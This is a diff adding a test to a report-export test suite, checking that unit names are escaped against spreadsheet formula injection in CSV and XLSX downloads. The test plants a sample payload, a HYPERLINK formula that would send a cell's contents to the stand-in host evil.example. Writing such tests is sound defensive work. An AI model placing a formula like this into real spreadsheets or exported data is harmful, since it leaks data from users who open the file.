@@ -68,3 +68,17 @@ def test_xlsx_has_summary_units_and_kinds(client):
 def test_exports_need_sign_in_and_reject_unknown_group(client, app):
     assert app.test_client().get("/reports/export.xlsx").status_code == 302
     assert client.get("/reports/export.csv?group=NOPE").status_code == 404
+
+
+def test_a_unit_name_is_never_a_formula_in_the_exports(client):
+    from tracker.models import Unit
+
+    unit = db.session.scalar(select(Unit).where(Unit.code == "X03"))
+    unit.name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+    db.session.commit()
+    text = client.get("/reports/export.csv").get_data().decode("utf-8-sig")
+    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == "X03")
+    assert row[1].startswith("'=")
+    wb = load_workbook(io.BytesIO(client.get("/reports/export.xlsx").get_data()))
+    cell = next(r[1] for r in wb["Đơn vị"].iter_rows() if r[0].value == "X03")
+    assert cell.data_type == "s" and cell.value.startswith("'=")
